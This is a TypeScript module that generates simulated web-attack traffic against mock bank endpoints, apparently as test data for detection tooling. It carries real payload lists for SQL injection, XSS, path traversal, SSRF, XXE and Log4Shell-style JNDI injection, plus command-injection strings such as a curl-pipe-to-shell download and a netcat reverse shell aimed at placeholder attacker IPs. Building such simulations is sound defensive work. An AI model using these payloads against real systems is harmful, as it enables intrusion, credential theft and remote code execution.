/**
 * Web-attack scenarios (DESIGN §4.3, third dimension): payloads in the query, form and JSON
 * bodies and headers of the bank's ordinary endpoints, answered as a real back end would
 * (400 from validation, 500 with an error page, sometimes 200), and a scanner's 404 storm.
 */
import type { Header } from '../../core/exchange.js';
import { ebankPages, efail, eok } from '../apps/ebank.js';
import { fail, mobileApi, ok } from '../apps/mobile.js';
import { openApi, openOk } from '../apps/openapi.js';
import { html, json, text } from '../http.js';
import type { Req, Res, Step } from '../model.js';
import type { Client } from '../client.js';
import { MIN, type Scenario, type ScenarioRun, pace, toolClient } from './types.js';

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';
const q = encodeURIComponent;

const ORA = (r: ScenarioRun): Res =>
  html(500, `<html><body><h1>系统繁忙</h1><!-- java.sql.SQLSyntaxErrorException: ORA-00933: SQL command not properly ended\n\tat oracle.jdbc.driver.T4CTTIoer11.processError(T4CTTIoer11.java:494) trace=${r.r.hex(16)} --></body></html>`);
const badRequest = (): Res => json(400, efail('EB0400', '请求参数不合法'));

type Shot = (cl: Client, s: ScenarioRun) => [Req, Res];

/** A burst of crafted requests from one IP, spread over the span. */
function* burst(s: ScenarioRun, app: 'mobile' | 'ebank' | 'openapi', ua: string, shots: Shot[], extra: Header[] = []): Generator<Step> {
  const ip = s.attacker();
  s.subject = { ip };
  const clients = { mobile: toolClient(s, ip, 'mobile', ua, extra), ebank: toolClient(s, ip, 'ebank', ua, extra), openapi: toolClient(s, ip, 'openapi', ua, extra) };
  const gap = pace(s, shots.length);
  let t = s.start;
  for (let i = 0; i < shots.length; i++) {
    const shot = shots[i];
    // each shot says which app it targets through the client it uses; default app first
    const cl = (shot as Shot & { app?: 'mobile' | 'ebank' | 'openapi' }).app ? clients[(shot as Shot & { app: 'mobile' | 'ebank' | 'openapi' }).app] : clients[app];
    cl.at(t);
    const [req, res] = shot(cl, s);
    yield cl.send(req, res, s.r.logNormal(40_000, 0.5));
    t = cl.clock + gap * (0.5 + s.r.next());
  }
}
const on = (app: 'mobile' | 'ebank' | 'openapi', f: Shot): Shot => Object.assign(f, { app });

export const sqli: Scenario = {
  id: 'sqli',
  slug: 'sqli',
  dimension: 'attack',
  title: 'SQL injection by hand in ordinary parameters',
  shape: '30 requests from one IP: boolean, UNION, error-based and time-based payloads in search, paging, login and order-query parameters; answered 400, 500 (ORA- error page) or 200',
  span: 12 * MIN,
  run(s) {
    const payloads = ["'", "1' AND '1'='1", "1' AND 1=2-- -", "' OR '1'='1' -- ", "1' UNION SELECT NULL,username,password FROM t_user-- -", "1' UNION SELECT banner,NULL FROM v$version-- -", "1 AND (SELECT 1 FROM dual WHERE 1=1)=1", "1'||(SELECT CHR(65) FROM dual)||'", "1' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)=1-- -", "1;WAITFOR DELAY '0:0:5'--", "') OR SLEEP(5)#", "1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -"];
    const shots: Shot[] = [];
    payloads.forEach((p, i) => {
      shots.push(on('ebank', (cl) => [cl.request('GET', `/ebank/search.do?q=${q(p)}`), i % 3 === 0 ? ORA(s) : i % 3 === 1 ? badRequest() : ebankPages.search(p, s.ctx.seed)]));
      shots.push(on('mobile', (cl) => [cl.request('GET', `/api/v1/accounts/${100000 + i}1/transactions?pageNo=${q(p)}&pageSize=20`), i % 2 ? json(500, fail('E9999', '系统异常，请稍后再试')) : json(400, fail('E0400', '参数格式错误'))]));
    });
    for (const p of ["admin' OR '1'='1' -- ", "admin'/**/OR/**/1=1#", "' OR 1=1 LIMIT 1-- -"]) shots.push(on('mobile', (cl) => [cl.json('POST', '/api/v1/auth/login', { loginName: p, password: 'x', loginType: 'PWD' }), mobileApi.loginNoUser()]));
    for (const p of ["1' OR '1'='1", "1' UNION SELECT card_no,id_no FROM t_customer-- -", "1' AND 1=CONVERT(int,@@version)--"]) shots.push(on('openapi', (cl) => [cl.request('GET', `/openapi/v1/pay/query?app_id=2024031500000102&out_trade_no=${q(p)}&timestamp=1717400000&sign=abc`), json(200, { code: '40002', msg: 'Invalid Arguments', sub_code: 'isv.invalid-signature' })]));
    return burst(s, 'ebank', BROWSER, shots, [['accept-language', 'zh-CN,zh;q=0.9']]);
  },
};

export const xss: Scenario = {
  id: 'xss',
  slug: 'xss',
  dimension: 'attack',
  title: 'Cross-site scripting probes',
  shape: '20 requests from one IP: script tags, event handlers, javascript: URLs and SVG payloads in search, transfer remarks and profile fields (some reflected in 200 answers)',
  span: 8 * MIN,
  run(s) {
    const payloads = ['<script>alert(document.cookie)</script>', '"><img src=x onerror=alert(1)>', "'><svg/onload=alert(String.fromCharCode(88,83,83))>", 'javascript:alert(1)//', '<iframe src="javascript:alert(`xss`)">', '<body onload=alert(1)>', '"><script src=http://198.51.100.66/x.js></script>', '<details open ontoggle=alert(1)>', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '<a href="jaVasCript:alert(1)">x</a>'];
    const shots: Shot[] = [];
    payloads.forEach((p, i) => {
      shots.push(on('ebank', (cl) => [cl.request('GET', `/ebank/search.do?q=${q(p)}`), i % 2 ? badRequest() : json(200, eok({ keyword: p, hits: [] }))]));
      shots.push(on('mobile', (cl) => [cl.json('POST', '/api/v1/transfers/prepare', { payAcctId: '100000031', payeeAcctNo: '6222020200112233445', payeeName: '张三', amount: '1.00', currency: 'CNY', remark: p }), i % 3 ? json(400, fail('E0400', '附言包含非法字符')) : json(200, ok({ transferToken: s.r.hex(32), remark: p }))]));
    });
    return burst(s, 'ebank', BROWSER, shots);
  },
};

export const pathTraversal: Scenario = {
  id: 'path-traversal',
  slug: 'path-traversal',
  dimension: 'attack',
  title: 'Path traversal / local file inclusion',
  shape: '20 requests from one IP: ../ sequences (plain, URL-encoded, double-encoded, ....//) to /etc/passwd, WEB-INF/web.xml and Windows files via the statement download parameter and static paths; one 200 leaks /etc/passwd',
  span: 6 * MIN,
  run(s) {
    const files = ['../../../../etc/passwd', '..%2f..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252f%252e%252e%252fetc%252fpasswd', '....//....//....//etc/shadow', '../../WEB-INF/web.xml', '..\\..\\..\\windows\\win.ini', '/etc/passwd%00.pdf', '../../../../proc/self/environ', '..%c0%af..%c0%afetc/passwd', '../../../../../../usr/local/tomcat/conf/tomcat-users.xml'];
    const shots: Shot[] = [];
    files.forEach((f, i) => {
      shots.push(on('ebank', (cl) => [cl.request('GET', `/ebank/download.do?file=${f.includes('%') ? f : q(f)}`), i === 0 ? text(200, 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\ntomcat:x:1001:1001::/opt/tomcat:/sbin/nologin\n', 'application/octet-stream') : i % 2 ? badRequest() : ebankPages.notFound()]));
      shots.push(on('ebank', (cl) => [cl.request('GET', `/static/${f.replace(/^\.\.\//, '..%2f')}`), ebankPages.notFound()]));
    });
    return burst(s, 'ebank', 'curl/8.4.0', shots);
  },
};

export const commandInjection: Scenario = {
  id: 'command-injection',
  slug: 'command-injection',
  dimension: 'attack',
  title: 'OS command injection',
  shape: '16 requests from one IP: ;, |, &&, backticks and $() with id/whoami/cat/curl|sh in a network-check host parameter and an export file name; 500 and 400 answers, one 200 with uid= output',
  span: 6 * MIN,
  run(s) {
    const cmds = ['127.0.0.1;id', '127.0.0.1|whoami', '127.0.0.1 && cat /etc/passwd', '`id`', '$(whoami)', '127.0.0.1;curl http://198.51.100.77/x.sh|sh', '127.0.0.1%0aid', '|nc 198.51.100.77 4444 -e /bin/sh'];
    const shots: Shot[] = [];
    cmds.forEach((c, i) => {
      shots.push(on('ebank', (cl) => [cl.request('GET', `/ebank/tools/netcheck.do?host=${q(c)}`), i === 0 ? text(200, 'PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\nuid=1001(tomcat) gid=1001(tomcat) groups=1001(tomcat)\n') : i % 2 ? json(500, efail('EB9999', '系统异常')) : badRequest()]));
      shots.push(on('ebank', (cl) => [cl.form('/ebank/statement/export.do', { acctId: '100000031', format: 'csv', fileName: `stmt.csv;${c.replace(/^127\.0\.0\.1/, '')}` }), badRequest()]));
    });
    return burst(s, 'ebank', 'python-requests/2.31.0', shots);
  },
};

export const ssrf: Scenario = {
  id: 'ssrf',
  slug: 'ssrf',
  dimension: 'attack',
  title: 'Server-side request forgery through callback URLs',
  shape: '14 requests from one IP: notify_url / avatar URLs pointing at cloud metadata (169.254.169.254), loopback admin ports, 10.x services, file:// and gopher://',
  span: 6 * MIN,
  run(s) {
    const urls = ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://127.0.0.1:8080/actuator/env', 'http://localhost:6379/', 'http://10.20.3.1:8500/v1/agent/self', 'file:///etc/passwd', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A', 'http://[::1]:22/', 'http://0x7f000001/admin', 'dict://127.0.0.1:11211/stats', 'http://metadata.google.internal/computeMetadata/v1/', 'http://100.100.100.200/latest/meta-data/', 'http://127.0.0.1:2375/containers/json', 'http://2130706433/', 'http://10.20.1.11/api/v1/internal/users'];
    const shots: Shot[] = urls.map((u, i) =>
      i % 2 === 0
        ? on('openapi', (cl, sr) => [cl.request('POST', '/openapi/v1/pay/create', [['content-type', 'application/json;charset=UTF-8']], JSON.stringify({ app_id: '2024031500000104', method: 'bank.pay.create', timestamp: '2024-06-03 10:00:00', sign: sr.r.chars(44, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'), biz_content: JSON.stringify({ out_trade_no: sr.r.digits(16), total_amount: '0.01', notify_url: u }) })), i % 4 ? json(200, openOk({ status: 'WAIT_PAY' })) : openApi.bad('isv.invalid-notify-url', '通知地址不合法')])
        : on('mobile', (cl) => [cl.request('GET', `/api/v1/customer/avatar?url=${q(u)}`), i % 3 ? json(400, fail('E0400', '图片地址不合法')) : json(500, fail('E9999', `Connection refused: ${u.slice(0, 40)}`))]),
    );
    return burst(s, 'openapi', 'Go-http-client/1.1', shots);
  },
};

export const xxe: Scenario = {
  id: 'xxe',
  slug: 'xxe',
  dimension: 'attack',
  title: 'XML external entities in payment notifications',
  shape: '12 XML posts from one IP to the XML payment-notify callback: DOCTYPE with SYSTEM entities to file://, http:// DTDs (out-of-band) and expect://, billion-laughs; 500 or a FAIL answer',
  span: 5 * MIN,
  run(s) {
    const dtd = [
      '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://198.51.100.88/evil.dtd">%remote;]>',
      '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "expect://id">]>',
      '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]>',
      '<!DOCTYPE xml [<!ENTITY % a SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts">%a;]>',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>',
    ];
    const shots: Shot[] = [];
    dtd.forEach((d, i) => {
      for (const field of ['out_trade_no', 'attach']) {
        shots.push((cl, sr) => [
          cl.request('POST', '/openapi/v1/pay/notify', [['content-type', 'text/xml;charset=UTF-8']], `<?xml version="1.0" encoding="UTF-8"?>${d}<xml><appid>2024031500000105</appid><mch_id>1900000109</mch_id><${field}>${i === 5 ? '&lol3;' : '&xxe;'}</${field}><total_fee>1</total_fee><sign>${sr.r.hex(32).toUpperCase()}</sign></xml>`),
          i % 2 ? text(500, '<xml><return_code><![CDATA[FAIL]]></return_code><return_msg><![CDATA[XML解析失败]]></return_msg></xml>', 'application/xml;charset=UTF-8') : text(200, '<xml><return_code><![CDATA[FAIL]]></return_code><return_msg><![CDATA[签名错误]]></return_msg></xml>', 'application/xml;charset=UTF-8'),
        ]);
      }
    });
    return burst(s, 'openapi', 'Apache-HttpClient/4.5.2 (Java/1.8.0_151)', shots);
  },
};

export const expressionInjection: Scenario = {
  id: 'expression-injection',
  slug: 'expression-injection',
  dimension: 'attack',
  title: 'JNDI / expression-language injection',
  shape: '18 requests from one IP: ${jndi:ldap://…} (plain and obfuscated) in User-Agent, X-Forwarded-For and parameters; SpEL T(java.lang.Runtime), OGNL %{…} in .do form fields, ${7*7} probes',
  span: 8 * MIN,
  run(s) {
    const jndi = ['${jndi:ldap://198.51.100.23:1389/Exploit}', '${${lower:j}ndi:${lower:l}dap://198.51.100.23:1389/a}', '${jndi:rmi://198.51.100.23:1099/obj}', '${${::-j}${::-n}${::-d}${::-i}:dns://198.51.100.23/x}', '${jndi:ldap://${env:HOSTNAME}.198.51.100.23/b}', '${j${k8s:k5:-ND}i:ldap://198.51.100.23/c}'];
    const el = ["${T(java.lang.Runtime).getRuntime().exec('id')}", '#{7*7}', '${7*7}', "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('whoami'))}", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}", '*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec("id").getInputStream())}'];
    const shots: Shot[] = [];
    jndi.forEach((p, i) => {
      shots.push(on('mobile', (cl) => [{ ...cl.request('GET', '/api/v1/config/app?platform=android&version=7.2.0'), headers: [['host', cl.host], ['user-agent', p], ['x-forwarded-for', i % 2 ? p : '198.51.100.23'], ['accept', '*/*']] }, mobileApi.config({ os: 'Android', osVersion: '13', model: 'x', appVersion: '7.2.0', deviceId: 'x' })]));
      shots.push(on('ebank', (cl) => [cl.request('GET', `/ebank/search.do?q=${q(p)}`), i % 2 ? badRequest() : json(200, eok({ keyword: p, hits: [] }))]));
    });
    el.forEach((p, i) => {
      shots.push(on('ebank', (cl) => [cl.form('/ebank/account/detail.do', { acctId: '100000031', pageNo: p, pageSize: '10' }), i % 2 ? json(500, efail('EB9999', 'ognl.OgnlException: source is null for getProperty')) : badRequest()]));
    });
    return burst(s, 'ebank', BROWSER, shots);
  },
};

const SCAN_PATHS = [
  '/.git/config', '/.env', '/.svn/entries', '/.DS_Store', '/admin/', '/admin/login.jsp', '/manager/html', '/console/login/LoginForm.jsp', '/phpmyadmin/index.php', '/wp-login.php', '/wp-admin/', '/actuator', '/actuator/env', '/actuator/heapdump', '/swagger-ui.html', '/v2/api-docs', '/v3/api-docs', '/druid/index.html', '/nacos/v1/auth/users', '/jolokia/list',
  '/server-status', '/cgi-bin/test-cgi', '/WEB-INF/web.xml', '/backup.zip', '/backup.sql', '/db.sql', '/www.tar.gz', '/config.php.bak', '/index.php?phpinfo=1', '/solr/admin/info/system', '/struts2-showcase/', '/invoker/JMXInvokerServlet', '/axis2/axis2-admin/', '/jmx-console/', '/seeyon/htmlofficeservlet', '/weaver/bsh.servlet.BshServlet', '/ueditor/net/controller.ashx', '/fckeditor/editor/', '/api/jsonws/invoke', '/_async/AsyncResponseService',
];

export const scanner: Scenario = {
  id: 'scanner',
  slug: 'scanner',
  dimension: 'attack',
  title: 'Vulnerability scanner sweep',
  shape: 'one IP with a Nikto User-Agent: ~400 requests in ~4 min over admin consoles, backups, VCS folders, framework endpoints (each path on both web hosts, with suffix variants): a 404 storm with a few 403/401/200',
  span: 4 * MIN,
  run(s) {
    const shots: Shot[] = [];
    const suffixes = ['', '.bak', '~', '.old', '/'];
    for (const suffix of suffixes) {
      for (const p of SCAN_PATHS) {
        const path = suffix === '/' && p.endsWith('/') ? p : p + suffix;
        const res = (): Res => (path === '/actuator' ? json(401, { timestamp: '2024-06-03T02:00:00.000+00:00', status: 401, error: 'Unauthorized', path }) : path === '/server-status' ? html(403, '<h1>Forbidden</h1>') : path === '/swagger-ui.html' ? html(200, '<!DOCTYPE html><html><head><title>Swagger UI</title></head><body><div id="swagger-ui"></div></body></html>') : ebankPages.notFound());
        shots.push(on('ebank', (cl) => [cl.request('GET', path), res()]));
        shots.push(on('mobile', (cl) => [cl.request('GET', path), json(404, { timestamp: '2024-06-03T02:00:00.000+00:00', status: 404, error: 'Not Found', path })]));
      }
    }
    return burst(s, 'ebank', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007340)', shots);
  },
};

